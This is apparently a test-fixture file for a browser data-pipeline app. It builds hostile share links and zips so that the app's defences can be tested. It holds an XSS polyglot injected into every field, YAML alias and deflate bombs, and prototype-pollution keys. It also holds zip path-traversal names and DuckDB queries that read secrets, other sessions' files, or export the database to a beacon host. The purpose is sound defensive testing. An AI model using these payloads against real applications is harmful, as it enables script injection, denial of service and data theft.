/** Links and zips as somebody hostile makes them. */
import { deflateRawSync, constants } from 'node:zlib';
import { zipSync } from 'fflate';
import { base64url } from '#core/bytes/base64.ts';
import { crc32 } from '#core/bytes/crc32.ts';
import { encodeFragment } from '#core/share/link.ts';
import type { SharedState } from '#core/share/state.ts';

/** Where everything hostile would report to. */
export const BEACON = 'http://127.0.0.1:4399';

/** In every language that a page could take a text for. */
export const SCRIPT = `<img src=x onerror=pwned=1><script>pwned=1</script><svg onload=pwned=1>"onfocus=pwned=1 autofocus x="![m](${BEACON}/m.png)[l](javascript:pwned=1)<iframe src=javascript:parent.pwned=1>{{pwned=1}}\${pwned=1}`;

const quoted = JSON.stringify;
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

export const state = (text: string, more: Partial<SharedState> = {}): SharedState => ({
  text,
  params: {},
  files: [],
  ...more,
});

export const withSteps = (...steps: readonly string[]): string =>
  `oml_version: "0.1.0"\nname: came\nsteps:\n${steps.map((step) => `  - ${step}\n`).join('')}`;

const csv = (config: string, more = ''): string =>
  `{id: a, component: filesystem.csv_extractor, mode: read, config: {${config}}${more}}`;
export const sql = (query: string, id = 'q'): string =>
  `{id: ${id}, component: duckdb.processor, mode: transform, needs: [], config: {query: ${quoted(query)}}}`;
export const http = (url: string, more = '', id = 'h'): string =>
  `{id: ${id}, component: http.extractor, mode: read, needs: [], config: {url: ${quoted(url)}${more}}}`;
const P = quoted(SCRIPT);

/** Script in every place that takes a text, by that place. */
export const SCRIPTS: Readonly<Record<string, SharedState>> = {
  'the whole text': state(SCRIPT),
  'a text that is no YAML': state(`{{{ ${SCRIPT}\n\t- "`),
  'the name of the pipeline': state(`oml_version: "0.1.0"\nname: ${P}\nsteps: []\n`),
  'the version': state(`oml_version: ${P}\nname: x\nsteps: []\n`),
  'a key of the top level': state(`oml_version: "0.1.0"\nname: x\n${P}: 1\nsteps: []\n`),
  'the id of a step': state(
    withSteps(`{id: ${P}, component: duckdb.processor, mode: transform, config: {query: SELECT 1}}`),
  ),
  'a component': state(withSteps(`{id: a, component: ${P}, mode: read, config: {}}`)),
  'a mode': state(
    withSteps(`{id: a, component: filesystem.csv_extractor, mode: ${P}, config: {path: a.csv}}`),
  ),
  'a need': state(withSteps(csv('path: a.csv', `, needs: [${P}]`))),
  'a key of a config': state(withSteps(csv(`path: a.csv, ${P}: 1`))),
  'the path of a file that is read': state(withSteps(csv(`path: ${P}`))),
  'the path of a file that is written': state(
    withSteps(
      sql('SELECT 1 AS x'),
      `{id: w, component: filesystem.csv_writer, mode: write, config: {path: ${P}}}`,
    ),
  ),
  'an encoding': state(withSteps(csv(`path: a.csv, encoding: ${P}`))),
  'an address': state(withSteps(http(SCRIPT))),
  'the path of an address': state(withSteps(http(`https://a.example/${SCRIPT}?${SCRIPT}#${SCRIPT}`))),
  'the host of an address': state(withSteps(http(`https://${SCRIPT}.example/`))),
  'an address of script': state(withSteps(http('javascript:pwned=1'))),
  'an address of data': state(withSteps(http('data:text/html,<script>parent.pwned=1</script>'))),
  'a connection': state(withSteps(http('x', `, connection: ${quoted(`@http.${SCRIPT}`)}`))),
  'a query': state(withSteps(sql(`SELECT ${SCRIPT}`))),
  'the name of a parameter': state(
    `oml_version: "0.1.0"\nname: x\nparams: {${P}: {default: 1}}\nsteps: []\n`,
  ),
  'the value of a parameter': state(
    `oml_version: "0.1.0"\nname: x\nparams: {p: {default: ${P}}}\nsteps:\n  - ${http('${params.p}')}\n`,
    {
      params: { p: SCRIPT, [SCRIPT.slice(0, 150)]: SCRIPT },
    },
  ),
  'a parameter that has no value': state(
    withSteps(http(`https://\${params.${SCRIPT.replaceAll('}', '')}}/`)),
  ),
  'the profile': state(`oml_version: "0.1.0"\nname: x\nprofiles: {${P}: {params: {}}}\nsteps: []\n`, {
    profile: 'none',
  }),
  'metadata and a comment': state(
    `# ${SCRIPT}\noml_version: "0.1.0"\nname: x\nmetadata: {description: ${P}}\nsteps: []\n`,
  ),
  'the chosen step': state(withSteps(csv('path: a.csv')), { step: SCRIPT.slice(0, 150) }),
  'the name of a file': state(withSteps(csv('path: a.csv')), {
    files: [{ path: '<img src=x onerror=pwned=1>.csv', content: bytes('a\n1\n') }],
  }),
  'the address of a file': state(withSteps(csv('path: a.csv')), {
    files: [{ path: 'a.csv', url: `${BEACON}/a.csv?<img src=x onerror=pwned=1>` }],
  }),
  'what a file holds': state(withSteps(csv('path: a.csv')), {
    files: [{ path: 'a.csv', content: bytes(`${quoted(SCRIPT)},b\n${SCRIPT},1\n`) }],
  }),
  'a thousand aliases of a thousand': state(
    `a: &a [${'x,'.repeat(9)}x]\n${[...'bcdefghij'].map((name, at) => `${name}: &${name} [${`*${'abcdefghi'[at]},`.repeat(9)}*${'abcdefghi'[at]}]\n`).join('')}`,
  ),
  'names that every object has': state(
    `oml_version: "0.1.0"\nname: x\n__proto__: {polluted: 1}\nconstructor: {prototype: {polluted: 1}}\nparams: {__proto__: {default: 1}, constructor: {default: 1}}\nsteps:\n  - {id: __proto__, component: constructor, mode: toString, config: {__proto__: {polluted: 1}}}\n`,
    { step: '__proto__' },
  ),
};

/** How `SCRIPT` begins, wherever it is shown. */
export const MARK = '<img src=x onerror=pwned=1>';

/** Of the scripts, those that do not stand in the pipeline's text; by what else, if anything, shows them before a run. */
export const BESIDE_THE_TEXT: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'an address of script': { Pipeline: 'javascript:pwned=1' },
  'an address of data': { Pipeline: 'data:text/html,<script>parent.pwned=1</script>' },
  'the chosen step': {},
  'the name of a file': { Files: MARK },
  'the address of a file': { 'Shared pipeline': '127.0.0.1:4399 this computer asked by the page, for a.csv' },
  'what a file holds': { Files: 'a.csv' },
  'a thousand aliases of a thousand': { Pipeline: '*a,*a,*a' },
  'names that every object has': { Pipeline: '__proto__: {polluted: 1}' },
};

/** What shows a script as text besides the pipeline's text, by the region of the page. */
export const SHOWN: Readonly<Record<string, readonly string[]>> = {
  'the name of the pipeline': ['Run and downloads', 'Problems'],
  'the version': ['Problems'],
  'a key of the top level': ['Problems'],
  'the id of a step': ['Steps'],
  'a component': ['Problems'],
  'a mode': ['Problems'],
  'a need': ['Problems'],
  'a key of a config': ['Problems'],
  'the path of a file that is read': ['Shared pipeline'],
  'the path of a file that is written': ['Shared pipeline'],
  'an encoding': ['Problems'],
  'a connection': ['Shared pipeline', 'Problems'],
  'a parameter that has no value': ['Shared pipeline', 'Problems'],
};

/** A link around anything. */
export function linkAround(content: string | Uint8Array): string {
  const unpacked = typeof content === 'string' ? bytes(content) : content;
  return linkOf(deflateRawSync(unpacked), unpacked);
}

function linkOf(body: Uint8Array, unpacked: Uint8Array): string {
  const crc = crc32();
  crc.add(unpacked);
  const sum = new Uint8Array(4);
  new DataView(sum.buffer).setUint32(0, crc.value());
  return `#pipeline=1.${base64url(new Uint8Array([...sum, ...body]))}`;
}

/** A link that unpacks to a gigabyte of zeros. */
function bomb(): string {
  const megabyte = deflateRawSync(new Uint8Array(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });
  const all = new Uint8Array(Buffer.concat(Array.from({ length: 1024 }, () => megabyte)));
  return linkOf(all, new Uint8Array(0));
}

const headed = (head: string): string => linkAround(`${head}\n`);
const sound = encodeFragment(state(withSteps(csv('path: a.csv'))));

/** Links that are refused, each with a part of what is said. */
export const REFUSED: Readonly<Record<string, readonly [fragment: string, said: RegExp]>> = {
  'one that was cut off': [sound.slice(0, -10), /damaged or was cut off/],
  'one that is no base64': ['#pipeline=1.<script>pwned=1</script>', /damaged or was cut off/],
  'one of another version': ['#pipeline=99.abc', /newer version/],
  'one that unpacks to a gigabyte': [bomb(), /unpacks to more than/],
  'one around what is no JSON': [headed(SCRIPT), /damaged/],
  'one around nothing': [headed('null'), /holds no pipeline/],
  'one whose text is none': [headed('{"text":{"toString":"x"},"files":[]}'), /text/],
  'one that sets what every object has': [
    headed('{"__proto__":{"text":"x","files":[]},"constructor":{"prototype":{"polluted":1}}}'),
    /holds no pipeline|files/,
  ],
  'one nested a thousand deep': [headed(`${'['.repeat(1000)}${']'.repeat(1000)}`), /nested too deep/],
  'a file that leaves its folder': [
    headed('{"text":"a: 1","files":[{"path":"../../other/pipeline.yaml","url":"https://a.example/"}]}'),
    /leaves its folder/,
  ],
  'a file with an address of script': [
    headed('{"text":"a: 1","files":[{"path":"a.csv","url":"javascript:pwned=1"}]}'),
    /no http or https address/,
  ],
  'a file that brings connections': [
    headed('{"text":"a: 1","files":[{"path":"osiris_connections.yaml","url":"https://a.example/"}]}'),
    /Connections do not travel/,
  ],
};

const pipeline = bytes(withSteps(csv('path: a.csv')));

/** Zips that are refused, each with a part of what is said. */
export const ZIPS: Readonly<Record<string, readonly [zip: Uint8Array, said: RegExp]>> = {
  'a name that leaves its folder': [
    zipSync({ 'pipeline.yaml': pipeline, '../../evil.csv': bytes('a\n') }),
    /leaves its folder/,
  ],
  'a name from the root': [
    zipSync({ 'pipeline.yaml': pipeline, '/etc/passwd': bytes('a\n') }),
    /cannot be opened/,
  ],
  'a name of another system': [
    zipSync({ 'pipeline.yaml': pipeline, '..\\..\\evil.csv': bytes('a\n') }),
    /cannot be opened/,
  ],
  'many megabytes of zeros': [
    zipSync({ 'pipeline.yaml': pipeline, 'a.csv': new Uint8Array(260 * 1024 * 1024) }, { level: 1 }),
    /unpacks to more than/,
  ],
};

/** Pipelines that want what is not theirs, by that; none of them can run. `MINE` is a table of the person's own session. */
export const FORBIDDEN: Readonly<Record<string, string>> = {
  'the notes of the session': 'SELECT * FROM osiris.steps',
  'the notes of the session, in quotes': 'SELECT * FROM "Osiris" . "steps"',
  'another database': 'SELECT * FROM other.main.mine',
  'another database, behind comments': 'FROM OTHER /* . */ . -- main\n MAIN."mine"',
  'the list of databases': 'SELECT * FROM duckdb_databases()',
  'the list of databases, apart': 'SELECT (SELECT count(*) FROM "DuckDB_Databases" /* */ ())',
  'the tables of others': 'FROM information_schema.tables',
  secrets: 'SELECT * FROM duckdb_secrets()',
  'a file by a function': "SELECT * FROM read_csv('../mine/inputs/mine.csv')",
  'a file by its name': "SELECT * FROM '../mine/pipeline_data.duckdb'",
  'a text of a file': "SELECT * FROM read_text('opfs://osiris_sessions/**')",
  'a search for files': "SELECT * FROM glob('**')",
  'another database, attached': "ATTACH 'opfs://osiris_sessions/mine/pipeline_data.duckdb' AS other",
  'a file elsewhere': `COPY (SELECT 1) TO '${BEACON}/upload'`,
  'a file elsewhere, of all': `EXPORT DATABASE '${BEACON}/all'`,
  'an extension': 'INSTALL httpfs',
  'an extension, loaded': "LOAD 'httpfs'",
  'a pragma': 'PRAGMA database_list',
  'another database, in use': 'USE other',
  'a procedure': "CALL pragma_table_info('mine')",
  'a secret of its own': "CREATE SECRET s (TYPE http, EXTRA_HTTP_HEADERS MAP {'a': 'b'})",
  'a file, written': "COPY mine TO 'mine.csv'",
  'a query in a text': "SELECT * FROM query('SELECT * FROM mine')",
  'a setting': 'SET enable_external_access = true',
  'two statements': 'SELECT 1; DROP TABLE mine',
};
